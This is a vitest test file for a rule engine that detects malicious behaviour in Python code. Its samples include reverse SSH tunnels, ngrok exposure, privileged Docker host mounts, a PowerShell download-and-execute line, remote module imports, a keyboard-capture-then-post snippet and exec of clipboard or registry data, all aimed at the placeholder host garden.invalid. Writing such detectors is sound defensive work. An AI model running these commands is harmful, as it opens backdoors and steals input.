import { expect, test } from 'vitest';
import downloadThenRun from '../../src/rules/download-then-run.js';
import type { SourceFacts } from '../../src/core/facts/source-facts.js';
import type { RuleFinding } from '../../src/core/rule.js';
import meddles from '../../src/rules/meddles-with-system.js';
import runsShippedData from '../../src/rules/runs-shipped-data.js';
import { commandTraits } from '../../src/python/vocabulary/commands.js';
import { read } from './reading.js';

const found = async (rule: { readonly check: (facts: SourceFacts) => readonly RuleFinding[] }, text: string) => {
  const { facts } = await read(`${text}\n`);
  return facts === null ? [] : rule.check(facts).map(({ severity }) => severity);
};

test.each([
  'import http.server\nhttp.server.ThreadingHTTPServer(("0.0.0.0", 8000), http.server.SimpleHTTPRequestHandler).serve_forever()',
  'import subprocess\nsubprocess.Popen(["ssh", "-fNR", "2222:localhost:22", "u@garden.invalid"])',
  'from pyngrok import ngrok\nngrok.connect(22, "tcp")',
  'import os\nos.system("cloudflared tunnel --url localhost:22")',
  'import docker\ndocker.from_env().containers.run("alpine", "sh", privileged=True)',
  'import docker\ndocker.from_env().containers.run("alpine", "sh", volumes={"/": {"bind": "/host"}})',
])('the machine is opened to others on import: %s', async (text) => {
  expect(await found(meddles, text)).toEqual(['critical']);
});

test.each([
  'import http.server\nclass Mine(http.server.BaseHTTPRequestHandler): pass\nhttp.server.HTTPServer(("", 0), Mine)',
  'import subprocess\nsubprocess.run(["ssh", "u@garden.invalid", "ls"])',
  'import docker\ndocker.from_env().containers.run("alpine", "true", volumes={"/data": {"bind": "/data"}})',
  'from pyngrok import ngrok\ndef serve():\n    ngrok.connect(22)',
])('a connection that somebody asks for opens nothing: %s', async (text) => {
  expect(await found(meddles, text)).toEqual([]);
});

test.each([
  'import httpimport\nwith httpimport.remote_repo("https://garden.invalid/a"):\n    import leaf',
  'import sys\nsys.path.append(r"\\\\garden.invalid\\share")',
  'import ctypes\nctypes.WinDLL(r"\\\\garden.invalid\\share\\leaf.dll")',
  'import xmlrpc.server, os\ns = xmlrpc.server.SimpleXMLRPCServer(("0.0.0.0", 8000))\ns.register_function(os.system)',
])('code out of another machine: %s', async (text) => {
  expect(await found(downloadThenRun, text)).toContain('critical');
});

test.each(['powershell -c "iex (iwr https://garden.invalid/a).Content"', 'deno run -A https://garden.invalid/a.ts', 'go run garden.invalid/a@latest', 'kubectl apply -f https://garden.invalid/pod.yaml', 'uvx git+https://garden.invalid/a'])('%s fetches and runs', (line) => {
  expect(commandTraits(line)).toContain('fetches-and-runs');
});

test.each(['deno run main.ts', 'go run ./cmd', 'kubectl apply -f pod.yaml', 'uvx ruff', 'wmic cpu get name'])('%s does not', (line) => {
  const traits = commandTraits(line);
  expect([traits.has('fetches-and-runs'), traits.has('hidden-shell')]).toEqual([false, false]);
});

test('a process that is nobody\'s child hides', () => {
  expect(commandTraits('wmic process call create "leaf.exe"')).toContain('hidden-shell');
});

test('pip is run as a module', async () => {
  const { facts } = await read('import runpy, sys\nsys.argv = ["pip", "install", "leaf"]\nrunpy.run_module("pip", run_name="__main__")\n');
  expect(facts?.calls('process').map(({ text }) => text)).toEqual(['pip install leaf']);
});

test('what is typed is read from the keyboard itself', async () => {
  const { facts } = await read('import requests\nwith open("/dev/input/event0", "rb") as f:\n    requests.post(u, data=f.read(24))\n');
  expect(facts?.flows({ from: 'observation', to: 'network' })).toHaveLength(1);
});

test.each(['import pyperclip\nexec(pyperclip.paste())', 'import os\nexec(os.getxattr(__file__, "user.x"))', 'import winreg\nexec(winreg.QueryValueEx(k, "leaf")[0])'])('code where no file is: %s', async (text) => {
  expect(await found(runsShippedData, text)).toEqual(['medium']);
});

test('a program whose place the registry knows is started', async () => {
  expect(await found(runsShippedData, 'import subprocess, winreg\nsubprocess.run([winreg.QueryValueEx(k, "leaf")[0]])')).toEqual([]);
});
